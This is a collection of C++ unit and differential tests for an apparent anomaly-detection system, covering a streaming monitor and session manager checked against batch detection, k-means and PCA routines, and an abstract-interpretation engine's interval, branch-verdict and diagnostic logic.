TEST_F(StreamingMonitorTest, ShortSessionScoredAsOneWindowOnFinish) {
  const core::ApplicationProfile& profile = system_->profile();
  const core::DetectionEngine engine(&profile);
  runtime::Trace trace = Collect({"list"});
  const size_t n = profile.options.window_length;
  ASSERT_GE(trace.size(), 4u);
  trace.resize(std::min(trace.size(), n - 1));  // strictly shorter than n

  StreamingMonitor monitor(&profile);
  for (const runtime::CallEvent& event : trace) {
    EXPECT_FALSE(monitor.OnEvent(event).has_value());
  }
  std::optional<Detection> last = monitor.Finish();
  ASSERT_TRUE(last.has_value())
      << "short session must still get its whole-trace verdict";
  const auto batch = engine.MonitorTrace(trace);
  ExpectSameDetections(batch, {*last}, "short session");
}

TEST_F(StreamingMonitorTest, FinishIsIdempotentAndEmptyOnLongSessions) {
  const core::ApplicationProfile& profile = system_->profile();

  StreamingMonitor empty(&profile);
  EXPECT_FALSE(empty.Finish().has_value());
  EXPECT_FALSE(empty.Finish().has_value());

  const runtime::Trace trace = Collect({"list", "stats", "find", "3"});
  ASSERT_GT(trace.size(), profile.options.window_length);
  StreamingMonitor monitor(&profile);
  for (const runtime::CallEvent& event : trace) (void)monitor.OnEvent(event);
  // Every window was already emitted per-event; nothing is pending.
  EXPECT_FALSE(monitor.Finish().has_value());
  EXPECT_FALSE(monitor.Finish().has_value());

  StreamingMonitor short_session(&profile);
  (void)short_session.OnEvent(trace[0]);
  EXPECT_TRUE(short_session.Finish().has_value());
  EXPECT_FALSE(short_session.Finish().has_value()) << "Finish re-emitted";
}

TEST_F(StreamingMonitorTest, LongStreamSurvivesManyCompactions) {
  const core::ApplicationProfile& profile = system_->profile();
  const core::DetectionEngine engine(&profile);

  // Concatenate every test-case trace into one long session, long enough
  // to force the 2n sliding buffer to compact many times.
  runtime::Trace long_trace;
  for (const core::TestCase& test_case : InventoryTestCases()) {
    const runtime::Trace trace = Collect(test_case.inputs);
    long_trace.insert(long_trace.end(), trace.begin(), trace.end());
  }
  ASSERT_GT(long_trace.size(), 8 * profile.options.window_length);

  ExpectSameDetections(engine.MonitorTrace(long_trace),
                       StreamTrace(profile, long_trace), "long stream");
}

TEST_F(StreamingMonitorTest, WindowStartsCountUpFromZero) {
  const core::ApplicationProfile& profile = system_->profile();
  const runtime::Trace trace = Collect({"list", "find", "2", "stats"});
  const std::vector<Detection> streamed = StreamTrace(profile, trace);
  ASSERT_FALSE(streamed.empty());
  for (size_t i = 0; i < streamed.size(); ++i) {
    EXPECT_EQ(streamed[i].window_start, i);
  }
}

}  // namespace
}  // namespace adprom::service
