// Satellite differential suite: for every corpus application (the
// CA-dataset hospital/banking/supermarket clients, the SIR-style tools,
// and the web portal), every recorded trace is fed event-by-event through
// the streaming service and the verdicts must be bit-identical to
// DetectionEngine::MonitorTraces — through the bare StreamingMonitor and
// through a SessionManager multiplexing all traces as concurrent
// sessions, for every worker-thread count.

#include <gtest/gtest.h>

#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "apps/corpus.h"
#include "core/adprom.h"
#include "core/detection_engine.h"
#include "service/alert_sink.h"
#include "service/session_manager.h"
#include "service/streaming_monitor.h"
#include "util/thread_pool.h"

namespace adprom::service {
namespace {

using core::Detection;

void ExpectSameDetections(const std::vector<Detection>& expected,
                          const std::vector<Detection>& actual,
                          const std::string& label) {
  ASSERT_EQ(expected.size(), actual.size()) << label;
  for (size_t i = 0; i < expected.size(); ++i) {
    const Detection& e = expected[i];
    const Detection& a = actual[i];
    EXPECT_EQ(e.flag, a.flag) << label << " window " << i;
    EXPECT_EQ(e.score, a.score) << label << " window " << i;
    EXPECT_EQ(e.window_start, a.window_start) << label << " window " << i;
    EXPECT_EQ(e.source_tables, a.source_tables) << label << " window " << i;
    EXPECT_EQ(e.detail, a.detail) << label << " window " << i;
  }
}

std::vector<Detection> StreamTrace(const core::ApplicationProfile& profile,
                                   const runtime::Trace& trace) {
  StreamingMonitor monitor(&profile);
  std::vector<Detection> out;
  for (const runtime::CallEvent& event : trace) {
    std::optional<Detection> verdict = monitor.OnEvent(event);
    if (verdict.has_value()) out.push_back(*verdict);
  }
  std::optional<Detection> last = monitor.Finish();
  if (last.has_value()) out.push_back(*last);
  return out;
}

/// Small variants of the corpus apps (same shapes as apps/corpus_test.cc)
/// with training bounded so the whole differential suite stays fast; the
/// bit-identity claim is size-independent.
apps::CorpusApp MakeApp(int index) {
  switch (index) {
    case 0: return apps::MakeHospitalApp();
    case 1: return apps::MakeBankingApp();
    case 2: return apps::MakeSupermarketApp();
    case 3: return apps::MakeWebPortalApp();
    case 4: return apps::MakeGrepLike(12, 1);
    case 5: return apps::MakeGzipLike(10, 2);
    case 6: return apps::MakeSedLike(10, 3);
    default: return apps::MakeBashLike(25, 8, 4);
  }
}

constexpr int kNumApps = 8;

std::string AppParamName(const ::testing::TestParamInfo<int>& info) {
  static const char* names[] = {"Hospital", "Banking",  "Supermarket",
                                "WebPortal", "GrepLike", "GzipLike",
                                "SedLike",  "BashLike"};
  return names[info.param];
}

struct TrainedApp {
  std::string name;
  std::unique_ptr<core::AdProm> system;
};

class StreamingDifferentialTest : public ::testing::TestWithParam<int> {
 protected:
  /// Trains each app once per process; the traces under test are the
  /// recorded training traces (every trace the corpus produced).
  static const TrainedApp& Trained(int index) {
    static std::vector<TrainedApp>* cache =
        new std::vector<TrainedApp>(kNumApps);
    TrainedApp& slot = (*cache)[index];
    if (slot.system != nullptr) return slot;
    const apps::CorpusApp app = MakeApp(index);
    auto program = prog::ParseProgram(app.source);
    EXPECT_TRUE(program.ok()) << app.name;
    core::ProfileOptions options;
    options.max_training_windows = 200;
    options.train.max_iterations = 5;
    auto system = core::AdProm::Train(*program, app.db_factory,
                                      app.test_cases, options);
    EXPECT_TRUE(system.ok()) << app.name << ": "
                             << system.status().ToString();
    slot.name = app.name;
    if (system.ok()) {
      slot.system =
          std::make_unique<core::AdProm>(std::move(system).value());
    }
    return slot;
  }
};

TEST_P(StreamingDifferentialTest, StreamingMonitorMatchesBatch) {
  const TrainedApp& app = Trained(GetParam());
  ASSERT_NE(app.system, nullptr) << app.name << " failed to train";
  const core::ApplicationProfile& profile = app.system->profile();
  const core::DetectionEngine engine(&profile);
  const std::vector<runtime::Trace>& traces = app.system->training_traces();
  ASSERT_FALSE(traces.empty()) << app.name;

  const auto batch = engine.MonitorTraces(traces);
  for (size_t i = 0; i < traces.size(); ++i) {
    ExpectSameDetections(batch[i], StreamTrace(profile, traces[i]),
                         app.name + " trace " + std::to_string(i));
  }
}

TEST_P(StreamingDifferentialTest, SessionManagerMatchesBatchForAnyPoolSize) {
  const TrainedApp& app = Trained(GetParam());
  ASSERT_NE(app.system, nullptr) << app.name << " failed to train";
  const core::ApplicationProfile& profile = app.system->profile();
  const core::DetectionEngine engine(&profile);
  const std::vector<runtime::Trace>& traces = app.system->training_traces();
  const auto batch = engine.MonitorTraces(traces);

  // Pool size 0 = the null-pool inline path; then 1..4 workers. Per
  // session, every size must produce the identical verdict stream.
  for (size_t workers = 0; workers <= 4; ++workers) {
    std::optional<util::ThreadPool> pool;
    if (workers > 0) pool.emplace(workers);
    CollectingAlertSink sink;
    SessionManager manager(&profile, &sink,
                           pool.has_value() ? &*pool : nullptr);

    // Interleave the sessions round-robin so many are concurrently live.
    size_t remaining = 0;
    for (const runtime::Trace& trace : traces) remaining += trace.size();
    for (size_t offset = 0; remaining > 0; ++offset) {
      for (size_t i = 0; i < traces.size(); ++i) {
        if (offset >= traces[i].size()) continue;
        ASSERT_TRUE(
            manager.Submit("t" + std::to_string(i), traces[i][offset]).ok());
        --remaining;
      }
    }
    manager.CloseAll();

    for (size_t i = 0; i < traces.size(); ++i) {
      const std::string id = "t" + std::to_string(i);
      ExpectSameDetections(batch[i], sink.DetectionsFor(id),
                           app.name + " " + id + " workers=" +
                               std::to_string(workers));
      const SessionStats stats = sink.StatsFor(id);
      EXPECT_EQ(stats.events_accepted, traces[i].size()) << app.name;
      EXPECT_EQ(stats.verdicts, batch[i].size()) << app.name;
      EXPECT_EQ(stats.dropped_events, 0u) << app.name;
    }
    EXPECT_EQ(manager.total_dropped(), 0u);
  }
}

INSTANTIATE_TEST_SUITE_P(AllApps, StreamingDifferentialTest,
                         ::testing::Range(0, kNumApps), AppParamName);

}  // namespace
}  // namespace adprom::service
