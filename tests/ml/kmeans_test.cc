#include "ml/kmeans.h"

#include <gtest/gtest.h>

#include <set>

namespace adprom::ml {
namespace {

TEST(KMeansTest, SeparatesObviousClusters) {
  util::Rng rng(3);
  util::Matrix data(60, 2);
  for (size_t i = 0; i < 30; ++i) {
    data.At(i, 0) = 0.0 + rng.Gaussian() * 0.1;
    data.At(i, 1) = 0.0 + rng.Gaussian() * 0.1;
  }
  for (size_t i = 30; i < 60; ++i) {
    data.At(i, 0) = 10.0 + rng.Gaussian() * 0.1;
    data.At(i, 1) = 10.0 + rng.Gaussian() * 0.1;
  }
  auto result = KMeansCluster(data, 2, rng);
  ASSERT_TRUE(result.ok());
  // All first-half points share a cluster; all second-half the other.
  const size_t c0 = result->assignment[0];
  const size_t c1 = result->assignment[30];
  EXPECT_NE(c0, c1);
  for (size_t i = 0; i < 30; ++i) EXPECT_EQ(result->assignment[i], c0);
  for (size_t i = 30; i < 60; ++i) EXPECT_EQ(result->assignment[i], c1);
}

TEST(KMeansTest, KEqualsNAssignsSingletons) {
  util::Rng rng(5);
  util::Matrix data = util::Matrix::FromRows(
      {{0, 0}, {5, 5}, {10, 10}});
  auto result = KMeansCluster(data, 3, rng);
  ASSERT_TRUE(result.ok());
  std::set<size_t> clusters(result->assignment.begin(),
                            result->assignment.end());
  EXPECT_EQ(clusters.size(), 3u);
  EXPECT_NEAR(result->inertia, 0.0, 1e-12);
}

TEST(KMeansTest, KOneGroupsEverything) {
  util::Rng rng(7);
  util::Matrix data = util::Matrix::FromRows({{0.0}, {2.0}, {4.0}});
  auto result = KMeansCluster(data, 1, rng);
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->assignment,
            (std::vector<size_t>{0, 0, 0}));
  EXPECT_NEAR(result->centroids.At(0, 0), 2.0, 1e-9);
}

TEST(KMeansTest, DeterministicGivenSeed) {
  util::Matrix data(20, 2);
  util::Rng fill(9);
  for (size_t i = 0; i < 20; ++i) {
    data.At(i, 0) = fill.Gaussian();
    data.At(i, 1) = fill.Gaussian();
  }
  util::Rng rng_a(42);
  util::Rng rng_b(42);
  auto a = KMeansCluster(data, 4, rng_a);
  auto b = KMeansCluster(data, 4, rng_b);
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  EXPECT_EQ(a->assignment, b->assignment);
}

TEST(KMeansTest, DuplicatePointsDoNotCrash) {
  util::Rng rng(11);
  util::Matrix data(10, 2, 1.0);  // all identical
  auto result = KMeansCluster(data, 3, rng);
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->assignment.size(), 10u);
}

TEST(KMeansTest, InputValidation) {
  util::Rng rng(13);
  util::Matrix data(3, 2);
  EXPECT_FALSE(KMeansCluster(data, 0, rng).ok());
  EXPECT_FALSE(KMeansCluster(data, 4, rng).ok());
}

TEST(KMeansTest, InertiaDecreasesWithMoreClusters) {
  util::Rng fill(15);
  util::Matrix data(50, 2);
  for (size_t i = 0; i < 50; ++i) {
    data.At(i, 0) = fill.Gaussian() * 5;
    data.At(i, 1) = fill.Gaussian() * 5;
  }
  util::Rng rng_a(1);
  util::Rng rng_b(1);
  auto k2 = KMeansCluster(data, 2, rng_a);
  auto k10 = KMeansCluster(data, 10, rng_b);
  ASSERT_TRUE(k2.ok());
  ASSERT_TRUE(k10.ok());
  EXPECT_LT(k10->inertia, k2->inertia);
}

}  // namespace
}  // namespace adprom::ml
