#include "ml/pca.h"

#include <gtest/gtest.h>

#include <cmath>

#include "util/rng.h"

namespace adprom::ml {
namespace {

TEST(JacobiTest, DiagonalMatrix) {
  util::Matrix m = util::Matrix::FromRows({{3, 0}, {0, 1}});
  std::vector<double> values;
  util::Matrix vectors;
  ASSERT_TRUE(JacobiEigenSymmetric(m, &values, &vectors).ok());
  EXPECT_NEAR(values[0], 3.0, 1e-9);
  EXPECT_NEAR(values[1], 1.0, 1e-9);
}

TEST(JacobiTest, KnownEigenpairs) {
  // [[2,1],[1,2]] has eigenvalues 3 and 1.
  util::Matrix m = util::Matrix::FromRows({{2, 1}, {1, 2}});
  std::vector<double> values;
  util::Matrix vectors;
  ASSERT_TRUE(JacobiEigenSymmetric(m, &values, &vectors).ok());
  EXPECT_NEAR(values[0], 3.0, 1e-9);
  EXPECT_NEAR(values[1], 1.0, 1e-9);
  // Eigenvector for 3 is (1,1)/sqrt(2) up to sign.
  EXPECT_NEAR(std::fabs(vectors.At(0, 0)), 1.0 / std::sqrt(2.0), 1e-6);
  EXPECT_NEAR(std::fabs(vectors.At(1, 0)), 1.0 / std::sqrt(2.0), 1e-6);
}

TEST(JacobiTest, ReconstructsMatrix) {
  // A = V diag(w) V^T for a random symmetric matrix.
  util::Rng rng(5);
  const size_t n = 6;
  util::Matrix m(n, n);
  for (size_t i = 0; i < n; ++i) {
    for (size_t j = i; j < n; ++j) {
      m.At(i, j) = rng.Gaussian();
      m.At(j, i) = m.At(i, j);
    }
  }
  std::vector<double> values;
  util::Matrix vectors;
  ASSERT_TRUE(JacobiEigenSymmetric(m, &values, &vectors).ok());
  util::Matrix diag(n, n);
  for (size_t i = 0; i < n; ++i) diag.At(i, i) = values[i];
  const util::Matrix rebuilt =
      vectors.Multiply(diag).Multiply(vectors.Transpose());
  EXPECT_LT(rebuilt.MaxAbsDiff(m), 1e-8);
}

TEST(JacobiTest, RejectsNonSquareAndAsymmetric) {
  std::vector<double> values;
  util::Matrix vectors;
  EXPECT_FALSE(
      JacobiEigenSymmetric(util::Matrix(2, 3), &values, &vectors).ok());
  util::Matrix bad = util::Matrix::FromRows({{1, 2}, {3, 4}});
  EXPECT_FALSE(JacobiEigenSymmetric(bad, &values, &vectors).ok());
}

TEST(PcaTest, RecoversDominantDirection) {
  // Points spread along (1, 1): the first principal axis must align.
  util::Rng rng(7);
  util::Matrix data(200, 2);
  for (size_t i = 0; i < 200; ++i) {
    const double t = rng.Gaussian() * 10.0;
    const double noise = rng.Gaussian() * 0.1;
    data.At(i, 0) = t + noise;
    data.At(i, 1) = t - noise;
  }
  auto pca = FitPca(data);
  ASSERT_TRUE(pca.ok());
  ASSERT_GE(pca->components.cols(), 1u);
  const double x = pca->components.At(0, 0);
  const double y = pca->components.At(1, 0);
  EXPECT_NEAR(std::fabs(x / y), 1.0, 0.05);
  EXPECT_GT(pca->explained_variance, 0.9);
}

TEST(PcaTest, VarianceTargetControlsDimensions) {
  util::Rng rng(11);
  util::Matrix data(100, 5);
  for (size_t i = 0; i < 100; ++i) {
    data.At(i, 0) = rng.Gaussian() * 100.0;  // dominant axis
    for (size_t j = 1; j < 5; ++j) data.At(i, j) = rng.Gaussian() * 0.01;
  }
  PcaOptions options;
  options.target_variance = 0.9;
  auto pca = FitPca(data, options);
  ASSERT_TRUE(pca.ok());
  EXPECT_EQ(pca->components.cols(), 1u);
}

TEST(PcaTest, MaxComponentsCap) {
  util::Rng rng(13);
  util::Matrix data(50, 8);
  for (size_t i = 0; i < 50; ++i) {
    for (size_t j = 0; j < 8; ++j) data.At(i, j) = rng.Gaussian();
  }
  PcaOptions options;
  options.target_variance = 1.0;
  options.max_components = 3;
  auto pca = FitPca(data, options);
  ASSERT_TRUE(pca.ok());
  EXPECT_EQ(pca->components.cols(), 3u);
}

TEST(PcaTest, ProjectionCentersData) {
  util::Matrix data = util::Matrix::FromRows(
      {{1.0, 10.0}, {2.0, 20.0}, {3.0, 30.0}});
  auto pca = FitPca(data);
  ASSERT_TRUE(pca.ok());
  const util::Matrix proj = pca->ProjectAll(data);
  // Projections of mean-centered collinear data: middle point at origin.
  EXPECT_NEAR(proj.At(1, 0), 0.0, 1e-9);
  EXPECT_NEAR(proj.At(0, 0), -proj.At(2, 0), 1e-9);
}

TEST(PcaTest, DegenerateIdenticalSamples) {
  util::Matrix data(5, 3, 2.0);
  auto pca = FitPca(data);
  ASSERT_TRUE(pca.ok());
  EXPECT_EQ(pca->components.cols(), 1u);
  EXPECT_NEAR(pca->Project(data.Row(0))[0], 0.0, 1e-12);
}

TEST(PcaTest, InputValidation) {
  EXPECT_FALSE(FitPca(util::Matrix(1, 3)).ok());
  EXPECT_FALSE(FitPca(util::Matrix(5, 0)).ok());
  PcaOptions bad;
  bad.target_variance = 0.0;
  EXPECT_FALSE(FitPca(util::Matrix(5, 2), bad).ok());
}

}  // namespace
}  // namespace adprom::ml
