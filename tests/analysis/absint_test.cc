// Unit tests for the abstract-interpretation engine: the interval and
// value lattices, SELECT-list parsing, branch-feasibility verdicts,
// counted-loop trip counts, interval diagnostics, interprocedural
// argument/return propagation, and thread-count determinism.

#include <gtest/gtest.h>

#include <cstdint>
#include <string>
#include <vector>

#include "analysis/absint/abstract_value.h"
#include "analysis/absint/engine.h"
#include "analysis/absint/interval.h"
#include "prog/program.h"
#include "util/thread_pool.h"

namespace adprom::analysis::absint {
namespace {

// ---------------------------------------------------------------- Interval

TEST(IntervalTest, EmptyIsNormalized) {
  EXPECT_EQ(Interval(5, 2), Interval::Empty());
  EXPECT_TRUE(Interval(5, 2).IsEmpty());
  EXPECT_EQ(Interval::Empty().Join(Interval::Constant(7)),
            Interval::Constant(7));
}

TEST(IntervalTest, JoinIsHullMeetIsIntersection) {
  const Interval a(0, 5);
  const Interval b(3, 9);
  EXPECT_EQ(a.Join(b), Interval(0, 9));
  EXPECT_EQ(a.Meet(b), Interval(3, 5));
  EXPECT_TRUE(Interval(0, 1).Meet(Interval(5, 9)).IsEmpty());
}

TEST(IntervalTest, WideningJumpsGrowingBoundsToInfinity) {
  const Interval previous(0, 4);
  EXPECT_EQ(Interval(0, 5).WidenFrom(previous),
            Interval(0, Interval::kPosInf));
  EXPECT_EQ(Interval(-1, 4).WidenFrom(previous),
            Interval(Interval::kNegInf, 4));
  // Stable bounds stay.
  EXPECT_EQ(Interval(0, 4).WidenFrom(previous), Interval(0, 4));
}

TEST(IntervalTest, ArithmeticSaturates) {
  const Interval big(Interval::kPosInf - 1, Interval::kPosInf - 1);
  EXPECT_EQ(big.Add(big).hi(), Interval::kPosInf);
  EXPECT_EQ(Interval::Constant(2).Add(Interval::Constant(3)),
            Interval::Constant(5));
  EXPECT_EQ(Interval(1, 2).Mul(Interval(3, 4)), Interval(3, 8));
  EXPECT_EQ(Interval(-2, 3).Mul(Interval(5, 5)), Interval(-10, 15));
}

TEST(IntervalTest, DivisionByExactZeroIsEmpty) {
  EXPECT_TRUE(Interval(1, 9).Div(Interval::Constant(0)).IsEmpty());
  EXPECT_TRUE(Interval(1, 9).Mod(Interval::Constant(0)).IsEmpty());
  // A range containing zero over-approximates (runtime may or may not
  // fault); the result is not empty.
  EXPECT_FALSE(Interval(10, 10).Div(Interval(-1, 1)).IsEmpty());
  EXPECT_EQ(Interval(7, 7).Div(Interval::Constant(2)),
            Interval::Constant(3));
}

// ---------------------------------------------------------------- AbsValue

TEST(AbsValueTest, JoinsWithinAndAcrossKinds) {
  EXPECT_EQ(AbsValue::IntConstant(1).Join(AbsValue::IntConstant(4)),
            AbsValue::Int(Interval(1, 4)));
  EXPECT_TRUE(AbsValue::IntConstant(1)
                  .Join(AbsValue::StrConstant("x"))
                  .IsTop());
  EXPECT_EQ(AbsValue::StrConstant("a").Join(AbsValue::StrConstant("a")),
            AbsValue::StrConstant("a"));
  EXPECT_TRUE(
      AbsValue::StrConstant("a").Join(AbsValue::StrConstant("b")).IsTop());
  // Two result handles keep the column count only when it agrees.
  EXPECT_EQ(AbsValue::DbResult(3).Join(AbsValue::DbResult(3)).db_columns(),
            3);
  EXPECT_EQ(AbsValue::DbResult(3).Join(AbsValue::DbResult(2)).db_columns(),
            -1);
}

TEST(AbsValueTest, Truthiness) {
  EXPECT_EQ(AbsValue::IntConstant(0).Truthiness(), Tri::kFalse);
  EXPECT_EQ(AbsValue::IntConstant(7).Truthiness(), Tri::kTrue);
  EXPECT_EQ(AbsValue::Int(Interval(0, 1)).Truthiness(), Tri::kUnknown);
  EXPECT_EQ(AbsValue::Null().Truthiness(), Tri::kFalse);
  EXPECT_EQ(AbsValue::StrConstant("").Truthiness(), Tri::kFalse);
  EXPECT_EQ(AbsValue::StrConstant("x").Truthiness(), Tri::kTrue);
  // db_query returns null on a SQL error: handle-or-null is undecidable.
  EXPECT_EQ(AbsValue::DbResult(2).Truthiness(), Tri::kUnknown);
}

TEST(AbsValueTest, AsIntRange) {
  EXPECT_EQ(AbsValue::Top().AsIntRange(), Interval::Top());
  EXPECT_EQ(AbsValue::Int(Interval(2, 6)).AsIntRange(), Interval(2, 6));
  EXPECT_TRUE(AbsValue::StrConstant("s").AsIntRange().IsEmpty());
  EXPECT_TRUE(AbsValue::Null().AsIntRange().IsEmpty());
}

// ------------------------------------------------------ CountSelectColumns

TEST(CountSelectColumnsTest, ParsesSelectLists) {
  EXPECT_EQ(CountSelectColumns("SELECT a, b, c FROM t"), 3);
  EXPECT_EQ(CountSelectColumns("select id from items"), 1);
  EXPECT_EQ(CountSelectColumns("SELECT * FROM t"), -1);
  EXPECT_EQ(CountSelectColumns("INSERT INTO t VALUES (1)"), -1);
  EXPECT_EQ(CountSelectColumns("SELECT f(a, b), c FROM t"), 2);
  EXPECT_EQ(CountSelectColumns("SELECT COUNT(*), SUM(x) FROM t"), 2);
  EXPECT_EQ(CountSelectColumns(""), -1);
}

// ----------------------------------------------------------------- Engine

util::Result<AbsintResult> AbsintOf(const std::string& source,
                                    const AbsintOptions& options = {}) {
  auto program = prog::ParseProgram(source);
  if (!program.ok()) return program.status();
  return RunAbstractInterpretation(*program, options);
}

TEST(AbsintEngineTest, ConstantConditionsGetVerdicts) {
  auto result = AbsintOf(R"(
fn main() {
  var x = 1;
  if (x < 2) { print("t"); } else { print("f"); }
  if (x > 5) { print("no"); }
}
)");
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  const auto& branches = result->functions.at("main").branches;
  ASSERT_EQ(branches.size(), 2u);
  EXPECT_EQ(branches[0].verdict, Tri::kTrue);
  EXPECT_EQ(branches[1].verdict, Tri::kFalse);
  EXPECT_FALSE(branches[0].condition_is_literal);
  EXPECT_EQ(result->NumInfeasibleBranches(), 2u);
}

TEST(AbsintEngineTest, LiteralConditionsAreMarked) {
  auto result = AbsintOf(R"(
fn main() {
  if (1) { print("a"); }
}
)");
  ASSERT_TRUE(result.ok());
  const auto& branches = result->functions.at("main").branches;
  ASSERT_EQ(branches.size(), 1u);
  EXPECT_TRUE(branches[0].condition_is_literal);
  EXPECT_EQ(branches[0].verdict, Tri::kTrue);
}

TEST(AbsintEngineTest, InputDependentConditionsStayUnknown) {
  auto result = AbsintOf(R"(
fn main() {
  var cmd = scan();
  if (cmd == "open") { print("o"); }
  var r = db_query("SELECT a FROM t");
  if (is_null(r)) { print("failed"); }
  if (db_ntuples(r) == 0) { print("empty"); }
}
)");
  ASSERT_TRUE(result.ok());
  for (const BranchFact& fact : result->functions.at("main").branches) {
    EXPECT_EQ(fact.verdict, Tri::kUnknown) << "line " << fact.line;
  }
}

TEST(AbsintEngineTest, CountedLoopTripCounts) {
  auto result = AbsintOf(R"(
fn main() {
  var i = 0;
  while (i < 5) { print(i); i = i + 1; }
  var j = 10;
  while (j > 0) { print(j); j = j - 2; }
  var k = 0;
  while (k < 7) { print(k); k = k + 3; }
}
)");
  ASSERT_TRUE(result.ok());
  const auto& branches = result->functions.at("main").branches;
  ASSERT_EQ(branches.size(), 3u);
  EXPECT_EQ(branches[0].trip_count, 5);
  EXPECT_TRUE(branches[0].entered);
  EXPECT_EQ(branches[1].trip_count, 5);  // 10, 8, 6, 4, 2
  EXPECT_EQ(branches[2].trip_count, 3);  // 0, 3, 6
  EXPECT_EQ(result->NumBoundedLoops(), 3u);
}

TEST(AbsintEngineTest, ZeroTripLoopIsAlwaysFalse) {
  auto result = AbsintOf(R"(
fn main() {
  var i = 9;
  while (i < 5) { print(i); i = i + 1; }
}
)");
  ASSERT_TRUE(result.ok());
  const auto& branches = result->functions.at("main").branches;
  ASSERT_EQ(branches.size(), 1u);
  EXPECT_EQ(branches[0].verdict, Tri::kFalse);
  EXPECT_FALSE(branches[0].entered);
}

TEST(AbsintEngineTest, NonCountedLoopsHaveNoTripCount) {
  auto result = AbsintOf(R"(
fn main() {
  var n = db_ntuples(db_query("SELECT a FROM t"));
  var i = 0;
  while (i < n) { print(i); i = i + 1; }
  var j = 0;
  while (j < 10) {
    j = j + 1;
    if (scan() == "stop") { j = j + 5; }
  }
}
)");
  ASSERT_TRUE(result.ok());
  for (const BranchFact& fact : result->functions.at("main").branches) {
    if (fact.is_loop) {
      EXPECT_EQ(fact.trip_count, -1) << "line " << fact.line;
    }
  }
  EXPECT_EQ(result->NumBoundedLoops(), 0u);
}

TEST(AbsintEngineTest, DivByZeroDiagnostics) {
  // `n` is narrowed to [0, 9] by the early returns; a fully unconstrained
  // divisor is deliberately not flagged (too noisy), a range containing
  // zero is, and the `n != 0` guard silences the check.
  auto result = AbsintOf(R"(
fn main() {
  var zero = 0;
  print(10 / zero);
  var n = to_int(scan());
  if (n < 0) { return; }
  if (n > 9) { return; }
  if (n != 0) { print(100 / n); }
  print(100 % n);
}
)");
  ASSERT_TRUE(result.ok());
  const auto& diags = result->functions.at("main").diagnostics;
  // The guarded 100 / n must NOT be flagged; the unguarded uses are.
  size_t div_zero = 0;
  for (const Diagnostic& d : diags) {
    EXPECT_EQ(d.category, "div-by-zero");
    div_zero++;
    EXPECT_NE(d.line, 8);  // the guarded division
  }
  EXPECT_EQ(div_zero, 2u);  // 10 / zero, 100 % n
}

TEST(AbsintEngineTest, ConstIndexOutOfBounds) {
  auto result = AbsintOf(R"(
fn main() {
  var r = db_query("SELECT a, b FROM t");
  print(db_getvalue(r, 0, 1));
  print(db_getvalue(r, 0, 5));
}
)");
  ASSERT_TRUE(result.ok());
  const auto& diags = result->functions.at("main").diagnostics;
  ASSERT_EQ(diags.size(), 1u);
  EXPECT_EQ(diags[0].category, "const-index-oob");
  EXPECT_EQ(diags[0].line, 5);
}

TEST(AbsintEngineTest, InterproceduralArgumentFacts) {
  // g is only ever called with 3, so its branch folds.
  auto result = AbsintOf(R"(
fn main() { g(3); g(3); }
fn g(n) {
  if (n > 1) { print("big"); }
}
)");
  ASSERT_TRUE(result.ok());
  const auto& branches = result->functions.at("g").branches;
  ASSERT_EQ(branches.size(), 1u);
  EXPECT_EQ(branches[0].verdict, Tri::kTrue);
}

TEST(AbsintEngineTest, DivergentCallSitesJoinArguments) {
  // Called with 1 and 9: n is [1,9], so n > 0 folds but n > 5 does not.
  auto result = AbsintOf(R"(
fn main() { g(1); g(9); }
fn g(n) {
  if (n > 0) { print("pos"); }
  if (n > 5) { print("big"); }
}
)");
  ASSERT_TRUE(result.ok());
  const auto& branches = result->functions.at("g").branches;
  ASSERT_EQ(branches.size(), 2u);
  EXPECT_EQ(branches[0].verdict, Tri::kTrue);
  EXPECT_EQ(branches[1].verdict, Tri::kUnknown);
}

TEST(AbsintEngineTest, ReturnSummariesPropagate) {
  auto result = AbsintOf(R"(
fn five() { return 5; }
fn main() {
  var x = five();
  if (x == 5) { print("yes"); }
}
)");
  ASSERT_TRUE(result.ok());
  const auto& branches = result->functions.at("main").branches;
  ASSERT_EQ(branches.size(), 1u);
  EXPECT_EQ(branches[0].verdict, Tri::kTrue);
}

TEST(AbsintEngineTest, RecursionStaysUnconstrained) {
  auto result = AbsintOf(R"(
fn main() { rec(3); }
fn rec(n) {
  if (n > 0) { rec(n - 1); }
  return n;
}
)");
  ASSERT_TRUE(result.ok());
  const auto& branches = result->functions.at("rec").branches;
  ASSERT_EQ(branches.size(), 1u);
  EXPECT_EQ(branches[0].verdict, Tri::kUnknown);
}

TEST(AbsintEngineTest, WideningTerminatesUnboundedGrowth) {
  // The loop counter grows without a constant bound in reach: widening
  // must terminate the fixpoint and leave the condition unknown.
  auto result = AbsintOf(R"(
fn main() {
  var n = to_int(scan());
  var i = 0;
  while (i < n) { i = i + 1; }
  print(i);
}
)");
  ASSERT_TRUE(result.ok());
  const auto& branches = result->functions.at("main").branches;
  ASSERT_EQ(branches.size(), 1u);
  EXPECT_EQ(branches[0].verdict, Tri::kUnknown);
  EXPECT_EQ(branches[0].trip_count, -1);
}

TEST(AbsintEngineTest, DeterministicForAnyThreadCount) {
  const char* kSource = R"(
fn main() {
  var a = helper(2);
  var b = helper(7);
  if (a + b > 0) { leaf(a); } else { leaf(b); }
}
fn helper(n) {
  if (n > 4) { return n * 2; }
  return n;
}
fn leaf(v) {
  if (v < 100) { print(v); }
  var i = 0;
  while (i < 4) { print(i); i = i + 1; }
}
)";
  auto baseline = AbsintOf(kSource);
  ASSERT_TRUE(baseline.ok());
  for (size_t threads : {2u, 4u, 7u}) {
    util::ThreadPool pool(threads);
    AbsintOptions options;
    options.pool = &pool;
    auto result = AbsintOf(kSource, options);
    ASSERT_TRUE(result.ok());
    ASSERT_EQ(result->functions.size(), baseline->functions.size());
    for (const auto& [name, facts] : baseline->functions) {
      const auto& other = result->functions.at(name);
      ASSERT_EQ(other.branches.size(), facts.branches.size());
      for (size_t i = 0; i < facts.branches.size(); ++i) {
        EXPECT_EQ(other.branches[i].verdict, facts.branches[i].verdict);
        EXPECT_EQ(other.branches[i].trip_count,
                  facts.branches[i].trip_count);
        EXPECT_EQ(other.branches[i].entered, facts.branches[i].entered);
      }
      ASSERT_EQ(other.diagnostics.size(), facts.diagnostics.size());
      EXPECT_EQ(other.return_value, facts.return_value);
    }
  }
}

}  // namespace
}  // namespace adprom::analysis::absint
